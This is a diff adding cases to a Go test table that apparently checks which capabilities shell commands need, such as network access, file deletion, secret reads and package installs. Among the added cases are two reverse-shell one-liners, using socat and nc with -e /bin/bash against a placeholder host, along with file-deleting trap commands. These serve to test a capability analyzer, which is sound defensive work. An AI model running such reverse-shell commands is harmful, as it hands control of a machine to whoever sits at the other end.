@@ -276,4 +276,15 @@ var spellings = []struct{ lang, text, needs string }{
 	// A trap runs with what is set by then.
 	{"shell", "trap 'rm -f \"$x\"' EXIT; x=a", "filesystem.delete ?; filesystem.delete a"},
 	{"shell", "x=a; trap 'rm -f \"$x\"' USR1; x=b", "filesystem.delete a; filesystem.delete b"},
+	// A shell that is fed by whoever is at the other end.
+	{"shell", "socat TCP:a.example.com:80 EXEC:/bin/sh", "network.client a.example.com; opaque"},
+	{"shell", "nc a.example.com 80 -e /bin/bash", "network.client a.example.com; opaque"},
+	{"shell", "ncat -l 80 -c 'cat a'", "filesystem.read a"},
+	// Arguments of what is run.
+	{"shell", "go run ./a -o b", "source_code.execute a"},
+	{"shell", "go build -o b ./a", "filesystem.write b; source_code.execute a"},
+	{"shell", "parallel convert {} -resize 50% b.png ::: a.png", "filesystem.read a.png; filesystem.write b.png"},
+	{"shell", "openssl enc -in a -pass env:B_PASS", "filesystem.read a; secrets.read $B_PASS"},
+	{"shell", "yarn eslint --fix a.js", "filesystem.read a.js; filesystem.write a.js; source_code.execute ."},
+	{"shell", "yarn workspace a add b", "package.install b"},
 }
